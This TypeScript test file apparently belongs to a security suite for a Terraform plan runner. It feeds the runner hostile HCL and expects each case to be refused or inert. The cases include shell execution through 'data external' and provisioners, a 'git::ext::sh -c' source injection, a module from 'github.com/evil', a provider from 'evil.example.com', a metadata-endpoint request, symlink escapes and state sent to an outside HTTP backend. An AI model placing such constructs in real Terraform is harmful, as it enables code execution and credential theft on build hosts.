import { lstat, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { Case, Outcome, readToolLog, show, ToolWrapper } from '../framework';
import { rawRequest } from '../harness/rawHttp';
import { SecurityWorld } from '../harness/securityWorld';

/** Files of a branch's target folder (the same in every lane's folder). */
export type FolderFiles = Record<string, string | { symlink: string }>;

export interface HclInput {
  branch: string;
  files: FolderFiles;
  /** Entries directly in the sibling canary directory the code names: none may exist afterwards. */
  siblingNames: string[];
  /** Paths on the suite's HTTP listener the code names: none may be requested. */
  httpPaths: string[];
}

export type HclExpect =
  /** Refused by the runner's checks, with a reason naming the file and construct, before `terraform init`. */
  | { outcome: 'rejected'; reason: RegExp }
  /**
   * Harmless: the run may succeed, Terraform must use only the runner's own
   * CLI config, and nothing outside the runner's directories changes.
   */
  | { outcome: 'inert' };

export type HclCase = Case<HclInput, HclExpect>;

/** The target folders the HCL corpus plans, one per lane (a locked target refuses concurrent runs). */
export const HCL_LANES = [
  { entityRef: 'component:default/payments', folder: 'live/dev/payments' },
  {
    entityRef: 'component:default/security-probe',
    folder: 'live/dev/security-probe',
  },
];

/** The catalog entity of the second lane, registered with the annotation corpus. */
export function securityProbeEntity(world: SecurityWorld) {
  return {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Component',
    metadata: {
      name: 'security-probe',
      annotations: {
        'sealed-runner.io/repository': world.root.demo.infrastructureLiveUrl,
        'sealed-runner.io/target.dev': 'live/dev/security-probe',
      },
    },
    spec: {
      type: 'service',
      lifecycle: 'experimental',
      owner: 'group:default/payments-team',
    },
  };
}

/** The vetted module call every folder starts from (as the demo's payments/dev). */
function vettedMain(world: SecurityWorld, name = 'payments'): string {
  return `module "${name}" {
  source = "${world.root.demo.moduleSource}?ref=v1.1.0"

  name        = "${name}"
  environment = "dev"
}
`;
}

/**
 * The HCL corpus: `code` (module sources, code execution, providers,
 * symlinks, hostile files) and `backends` (where state goes: a backend
 * block must not move it out of the runner's hands).
 */
export function hclCases(
  world: SecurityWorld,
  options: { httpBackendUrl: string },
): { code: HclCase[]; backends: HclCase[] } {
  const sib = world.canary.sibling;
  const source = world.root.demo.moduleSource;
  const catalogPath = world.root.demo.serviceCatalogUrl.slice('file://'.length);
  const cases: HclCase[] = [];
  const backendCases: HclCase[] = [];
  let n = 0;
  const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  const add = (
    name: string,
    files: FolderFiles,
    expect: HclExpect,
    into: HclCase[] = cases,
  ) => {
    const branch = `security/hcl-${String(++n).padStart(2, '0')}`;
    const text = Object.values(files)
      .map(f => (typeof f === 'string' ? f : f.symlink))
      .join('\n');
    // What the code would create or contact if Terraform ran it.
    const siblingNames = [
      ...new Set(
        [
          ...text.matchAll(new RegExp(`${escape(sib)}/([A-Za-z0-9_.-]+)`, 'g')),
        ].map(m => m[1]),
      ),
    ].filter(
      entry => !['secret.txt', 'secret.tf', 'evil-module'].includes(entry),
    );
    const httpPaths = [
      ...new Set(
        [
          ...text.matchAll(
            new RegExp(
              `${escape(options.httpBackendUrl)}(/[A-Za-z0-9_/-]*)`,
              'g',
            ),
          ),
        ].map(m => m[1]),
      ),
    ];
    into.push({
      boundary: 'hcl',
      name,
      input: {
        branch,
        files: { 'main.tf': vettedMain(world), ...files },
        siblingNames,
        httpPaths,
      },
      expect,
    });
  };
  const touch = (tag: string) => `touch ${sib}/pwned-hcl-${tag}`;
  const moduleCall = (src: string, extra = '') =>
    `module "x" {\n  source = "${src}"\n${extra}}\n`;
  const rejected = (reason: RegExp): HclExpect => ({
    outcome: 'rejected',
    reason,
  });

  // Module sources outside the catalog.
  add(
    'module from a git URL outside the catalog',
    {
      'evil.tf': moduleCall(
        'git::https://github.com/evil/modules.git//x?ref=v1.0.0',
      ),
    },
    rejected(/evil\.tf:\d+: module "x".*not a vetted catalog module/),
  );
  add(
    'module from the registry',
    { 'evil.tf': moduleCall('hashicorp/consul/aws', '  version = "0.1.0"\n') },
    rejected(/evil\.tf:\d+: module "x".*not a git:: source/),
  );
  add(
    'local module escaping the checkout (../../../..)',
    { 'evil.tf': moduleCall('../../../../etc') },
    rejected(/evil\.tf:\d+: module "x".*leaves the repository/),
  );
  add(
    'catalog module at an unvetted tag',
    { 'evil.tf': moduleCall(`${source}?ref=v2.0.0-rc1`) },
    rejected(/evil\.tf:\d+: module "x".*v2\.0\.0-rc1.*not vetted/),
  );
  add(
    'catalog module at a branch',
    { 'evil.tf': moduleCall(`${source}?ref=main`) },
    rejected(/evil\.tf:\d+: module "x".*not vetted/),
  );
  add(
    'catalog module unpinned',
    { 'evil.tf': moduleCall(source) },
    rejected(/evil\.tf:\d+: module "x".*not pinned/),
  );
  add(
    'catalog module with a subdir traversal',
    {
      'evil.tf': moduleCall(
        `git::file://${catalogPath}//modules/../../x?ref=v1.1.0`,
      ),
    },
    rejected(/evil\.tf:\d+: module "x".*subdirectory/),
  );
  add(
    'catalog module with an extra query parameter',
    { 'evil.tf': moduleCall(`${source}?ref=v1.1.0&depth=1`) },
    rejected(/evil\.tf:\d+: module "x".*single \?ref/),
  );
  add(
    'catalog module through a dot segment',
    {
      'evil.tf': moduleCall(
        `git::file://${catalogPath.replace(
          /\/([^/]+)$/,
          '/./$1',
        )}//modules/web-service?ref=v1.1.0`,
      ),
    },
    rejected(/evil\.tf:\d+: module "x".*'\.'/),
  );
  add(
    'ext:: transport module source',
    {
      'evil.tf': moduleCall(
        `git::ext::sh -c ${touch('ext').replace(/ /g, '% ')}`,
      ),
    },
    rejected(/evil\.tf:\d+: module "x".*(transport syntax|whitespace)/),
  );
  add(
    'http archive module source',
    { 'evil.tf': moduleCall('https://example.com/module.zip') },
    rejected(/evil\.tf:\d+: module "x".*not a git:: source/),
  );
  add(
    's3 module source',
    { 'evil.tf': moduleCall('s3::https://s3.amazonaws.com/bucket/module.zip') },
    rejected(/evil\.tf:\d+: module "x".*not a git:: source/),
  );
  add(
    'interpolated module source',
    {
      'evil.tf': `variable "src" {\n  default = "x"\n}\n${moduleCall(
        '${var.src}',
      )}`,
    },
    rejected(/evil\.tf:\d+: module "x"/),
  );
  add(
    'local module calling an unvetted module',
    {
      'evil.tf': moduleCall('./mod'),
      'mod/main.tf': moduleCall(
        'git::https://github.com/evil/modules.git?ref=v1.0.0',
      ).replace('"x"', '"inner"'),
    },
    rejected(/mod\/main\.tf:\d+: module "inner".*not a vetted catalog module/),
  );

  // Plan-time code execution.
  add(
    'data "external"',
    {
      'evil.tf': `data "external" "x" {\n  program = ["sh", "-c", "${touch(
        'external',
      )}; echo {}"]\n}\n`,
    },
    rejected(/evil\.tf:\d+: data "external" "x"/),
  );
  add(
    'local-exec provisioner',
    {
      'evil.tf': `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "${touch(
        'local-exec',
      )}"\n  }\n}\n`,
    },
    rejected(/evil\.tf:\d+: provisioner "local-exec"/),
  );
  add(
    'local-exec provisioner at destroy',
    {
      'evil.tf': `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    when    = destroy\n    command = "${touch(
        'destroy',
      )}"\n  }\n}\n`,
    },
    rejected(/evil\.tf:\d+: provisioner "local-exec"/),
  );
  add(
    'remote-exec provisioner',
    {
      'evil.tf': `resource "terraform_data" "x" {\n  connection {\n    host = "127.0.0.1"\n  }\n  provisioner "remote-exec" {\n    inline = ["${touch(
        'remote',
      )}"]\n  }\n}\n`,
    },
    rejected(/evil\.tf:\d+: provisioner "remote-exec"/),
  );
  add(
    'file provisioner',
    {
      'evil.tf': `resource "terraform_data" "x" {\n  connection {\n    host = "127.0.0.1"\n  }\n  provisioner "file" {\n    source      = "${sib}/secret.txt"\n    destination = "/tmp/x"\n  }\n}\n`,
    },
    rejected(/evil\.tf:\d+: provisioner "file"/),
  );
  add(
    'local-exec inside a local module',
    {
      'evil.tf': moduleCall('./mod'),
      'mod/main.tf': `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "${touch(
        'module-local-exec',
      )}"\n  }\n}\n`,
    },
    rejected(/mod\/main\.tf:\d+: provisioner "local-exec"/),
  );
  add(
    'data "external" inside a check block',
    {
      'evil.tf': `check "x" {\n  data "external" "y" {\n    program = ["sh", "-c", "${touch(
        'check',
      )}; echo {}"]\n  }\n  assert {\n    condition     = true\n    error_message = "x"\n  }\n}\n`,
    },
    rejected(/evil\.tf:\d+: .*data "external" "y"/),
  );
  add(
    'provisioner in a removed block',
    {
      'evil.tf': `removed {\n  from = terraform_data.gone\n  lifecycle {\n    destroy = true\n  }\n  provisioner "local-exec" {\n    when    = destroy\n    command = "${touch(
        'removed',
      )}"\n  }\n}\n`,
    },
    rejected(/evil\.tf:\d+: .*provisioner "local-exec"/),
  );
  add(
    'local-exec in override.tf',
    {
      'override.tf': `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "${touch(
        'override',
      )}"\n  }\n}\n`,
    },
    rejected(/override\.tf:\d+: provisioner "local-exec"/),
  );
  add(
    'data "external" in .tf.json',
    {
      'evil.tf.json': JSON.stringify({
        data: {
          external: {
            x: { program: ['sh', '-c', `${touch('json')}; echo {}`] },
          },
        },
      }),
    },
    rejected(/evil\.tf\.json:\d+: data "external" "x"/),
  );
  add(
    'data "external" in .tf.json array form',
    {
      'evil.tf.json': JSON.stringify({
        data: [
          {
            external: [
              {
                x: [
                  { program: ['sh', '-c', `${touch('json-array')}; echo {}`] },
                ],
              },
            ],
          },
        ],
      }),
    },
    rejected(/evil\.tf\.json.*data "external" "x"/),
  );
  add(
    '.tf.json hiding a block behind a repeated key',
    {
      'evil.tf.json': `{"data":{"external":{"x":{"program":["sh","-c","${touch(
        'dup',
      )}; echo {}"]}}},"data":{}}`,
    },
    rejected(/evil\.tf\.json.*duplicate key "data"/),
  );

  // Providers off the allowlist (dev allows only the built-in one).
  add(
    'aws provider block',
    { 'evil.tf': 'provider "aws" {\n  region = "us-east-1"\n}\n' },
    rejected(/evil\.tf:\d+: .*hashicorp\/aws/),
  );
  add(
    'null_resource (implies hashicorp/null)',
    { 'evil.tf': 'resource "null_resource" "x" {}\n' },
    rejected(/evil\.tf:\d+: .*hashicorp\/null/),
  );
  add(
    'local_file writing the canary (hashicorp/local)',
    {
      'evil.tf': `resource "local_file" "x" {\n  filename = "${sib}/pwned-hcl-local-file"\n  content  = "x"\n}\n`,
    },
    rejected(/evil\.tf:\d+: .*hashicorp\/local/),
  );
  add(
    'required_providers from another registry',
    {
      'evil.tf':
        'terraform {\n  required_providers {\n    evil = {\n      source = "evil.example.com/evil/evil"\n    }\n  }\n}\n',
    },
    rejected(/evil\.tf:\d+: .*evil\.example\.com\/evil\/evil/),
  );
  add(
    'data "http" (hashicorp/http)',
    {
      'evil.tf':
        'data "http" "x" {\n  url = "http://169.254.169.254/latest/meta-data/"\n}\n',
    },
    rejected(/evil\.tf:\d+: .*hashicorp\/http/),
  );
  add(
    'module providers map',
    {
      'evil.tf': `provider "aws" {\n  alias  = "evil"\n  region = "us-east-1"\n}\n${moduleCall(
        `${source}?ref=v1.1.0`,
        '  name = "x"\n  environment = "dev"\n  providers = {\n    aws = aws.evil\n  }\n',
      )}`,
    },
    rejected(/evil\.tf:\d+: .*hashicorp\/aws/),
  );
  add(
    'ephemeral resource of another provider',
    { 'evil.tf': 'ephemeral "random_password" "x" {\n  length = 16\n}\n' },
    rejected(/evil\.tf:\d+: .*hashicorp\/random/),
  );

  // Symlinks (git checks them out as plain files: core.symlinks=false).
  add(
    'symlinked .tf file pointing at hostile code outside the checkout',
    { 'evil.tf': { symlink: join(world.canary.inRoot, 'secret.tf') } },
    rejected(/evil\.tf (could not be parsed|is not a regular file)/),
  );
  add(
    'symlinked module folder outside the checkout',
    {
      'evil.tf': moduleCall('./mod'),
      mod: { symlink: join(sib, 'evil-module') },
    },
    rejected(/"live\/dev\/[a-z-]+\/mod" (does not exist|leaves the checkout)/),
  );

  // Huge or invalid HCL.
  add(
    'invalid HCL',
    { 'evil.tf': 'resource "terraform_data" "x" {\n' },
    rejected(/evil\.tf could not be parsed/),
  );
  add(
    'HCL over 1 MB',
    { 'evil.tf': `# ${'x'.repeat(1100 * 1024)}\n` },
    rejected(/evil\.tf is larger than/),
  );
  add(
    'NUL bytes in HCL',
    { 'evil.tf': 'resource "terraform_data" "x" {\u0000}\n' },
    rejected(/evil\.tf could not be parsed/),
  );
  add(
    'invalid .tf.json',
    { 'evil.tf.json': '{"resource":' },
    rejected(/evil\.tf\.json could not be parsed/),
  );
  add(
    '501 Terraform files',
    Object.fromEntries(
      Array.from({ length: 501 }, (_, i) => [`f${i}.tf`, `# ${i}\n`]),
    ),
    rejected(/more than 500 Terraform files/),
  );

  // Backends: the code says where state goes. dev lists no backend type in
  // planPolicy.backends, so the runner keeps the state: any backend block
  // is refused before init, naming the type — never written or fetched
  // outside the runner.
  add(
    'backend "local" writing state outside the runner',
    {
      'backend.tf': `terraform {\n  backend "local" {\n    path = "${sib}/hcl-backend/terraform.tfstate"\n  }\n}\n`,
    },
    rejected(
      /backend\.tf:\d+: terraform backend "local" is not allowed in dev \(planPolicy\.backends: none; the runner keeps the state\)/,
    ),
    backendCases,
  );
  add(
    'backend "http" sending state to an arbitrary endpoint',
    {
      'backend.tf': `terraform {\n  backend "http" {\n    address = "${options.httpBackendUrl}/state-backend"\n  }\n}\n`,
    },
    rejected(
      /backend\.tf:\d+: terraform backend "http" is not allowed in dev \(planPolicy\.backends: none; the runner keeps the state\)/,
    ),
    backendCases,
  );

  // Files Terraform must not honour.
  const rc = `provider_installation {\n  network_mirror {\n    url = "${options.httpBackendUrl}/providers-rc/"\n  }\n}\nplugin_cache_dir = "${sib}/plugin-cache"\n`;
  add(
    '.terraformrc and terraform.rc in the folder',
    { '.terraformrc': rc, 'terraform.rc': rc },
    { outcome: 'inert' },
  );
  add(
    'committed .terraform/modules standing in for the vetted module',
    {
      '.terraform/modules/modules.json': JSON.stringify({
        Modules: [
          { Key: '', Source: '', Dir: '.' },
          {
            Key: 'payments',
            Source: `${source}?ref=v1.1.0`,
            Dir: '.terraform/modules/payments',
          },
        ],
      }),
      '.terraform/modules/payments/main.tf': `variable "name" {}\nvariable "environment" {}\nresource "terraform_data" "service" {\n  provisioner "local-exec" {\n    command = "${touch(
        'committed-module',
      )}"\n  }\n}\noutput "service_id" {\n  value = "x"\n}\n`,
    },
    { outcome: 'inert' },
  );
  return { code: cases, backends: backendCases };
}

/** A benign branch: the positive control that plans for real through the same path. */
export function hclControlFiles(world: SecurityWorld): FolderFiles {
  return { 'main.tf': vettedMain(world) };
}

export interface HclContext {
  world: SecurityWorld;
  baseUrl: string;
  erinToken: string;
  terraform: ToolWrapper;
  /** Paths requested from the suite's HTTP listener so far. */
  httpHits: string[];
}

async function api(
  ctx: HclContext,
  method: 'GET' | 'POST',
  path: string,
  body?: unknown,
) {
  return rawRequest(ctx.baseUrl, {
    method,
    path: `/api/sealed-runner${path}`,
    headers: {
      authorization: `Bearer ${ctx.erinToken}`,
      ...(body ? { 'content-type': 'application/json' } : {}),
    },
    body: body ? JSON.stringify(body) : undefined,
  });
}

async function waitForRun(ctx: HclContext, id: string, timeoutMs = 120_000) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const { json } = await api(ctx, 'GET', `/runs/${id}`);
    const run = json?.run;
    if (
      run &&
      ['succeeded', 'failed', 'rejected', 'cancelled'].includes(run.status)
    )
      return run;
    if (Date.now() > deadline) throw new Error(`run ${id} did not finish`);
    await new Promise(r => setTimeout(r, 150));
  }
}

async function runLogs(ctx: HclContext, id: string): Promise<string[]> {
  const { json } = await api(ctx, 'GET', `/runs/${id}/logs?after=0`);
  return json?.lines ?? [];
}

/**
 * Plans one branch of one lane's target through the real backend and
 * judges it: rejected with a reason naming file and construct and no
 * Terraform start for the run; or, for inert cases, Terraform used only the
 * runner's CLI config. Canaries are checked by the suite-wide snapshot.
 */
export async function runHclCase(
  ctx: HclContext,
  c: HclCase,
  lane: number,
): Promise<Outcome> {
  const { entityRef } = HCL_LANES[lane];
  const request = await api(ctx, 'POST', '/runs', {
    entityRef,
    environment: 'dev',
    operation: 'plan',
    ref: c.input.branch,
  });
  if (request.status !== 202) {
    return {
      refused: request.status >= 400 && request.status < 500,
      fiveXX: request.status >= 500,
      problems: [
        `POST /runs answered ${request.status}, expected 202 (the runner must decide)`,
      ],
      observed: `${request.status} ${show(request.text, 200)}`,
    };
  }
  const run = await waitForRun(ctx, request.json.run.id);
  const runDir = `/run-${run.id}-`;
  const terraformStarts = (await readToolLog(ctx.terraform)).filter(t =>
    t.cwd.includes(runDir),
  );
  const logs = await runLogs(ctx, run.id);
  const problems: string[] = [];
  const effects: string[] = [];
  for (const entry of c.input.siblingNames) {
    if (
      await lstat(join(ctx.world.canary.sibling, entry)).then(
        () => true,
        () => false,
      )
    ) {
      effects.push(`created ${entry} in the sibling canary directory`);
    }
  }
  for (const path of c.input.httpPaths) {
    const hits = ctx.httpHits.filter(hit => hit.startsWith(path));
    if (hits.length > 0)
      effects.push(
        `contacted the suite's listener: ${hits.slice(0, 3).join(', ')}`,
      );
  }
  let sideEffect = effects.length > 0 ? effects.join('; ') : undefined;
  const observed = `${run.status}: ${show(run.error ?? '', 300)}`;
  if (c.expect.outcome === 'rejected') {
    const refused = run.status === 'rejected' && !!run.error?.trim();
    if (refused && !c.expect.reason.test(run.error)) {
      problems.push(`reason does not match ${c.expect.reason}`);
    }
    if (terraformStarts.length > 0) {
      sideEffect = [
        sideEffect,
        `terraform ran for a refused run: ${terraformStarts
          .map(t => t.args.split(' ')[0])
          .join(', ')}`,
      ]
        .filter(Boolean)
        .join('; ');
    }
    if (logs.some(line => line.startsWith('Initializing'))) {
      problems.push('the run log shows terraform init');
    }
    return { refused, sideEffect, problems, observed };
  }
  // Inert: whatever Terraform ran used the runner's CLI config, never the folder's.
  const foreign = terraformStarts.filter(
    t =>
      !t.cliConfigFile.includes(`${runDir}`) ||
      !t.cliConfigFile.endsWith('/terraform.rc'),
  );
  if (foreign.length > 0) {
    problems.push(
      `terraform ran with CLI config ${show(foreign[0].cliConfigFile)}`,
    );
  }
  if (!['succeeded', 'rejected', 'failed'].includes(run.status)) {
    problems.push(`ended ${run.status}`);
  }
  return {
    refused: run.status === 'rejected',
    inert: problems.length === 0 && !sideEffect,
    sideEffect,
    problems,
    observed,
  };
}

/** The backend runner's per-run output directories (each run that was dispatched leaves one). */
export async function countRunnerRuns(runnerDir: string): Promise<number> {
  return (await readdir(join(runnerDir, 'runs')).catch(() => [])).length;
}
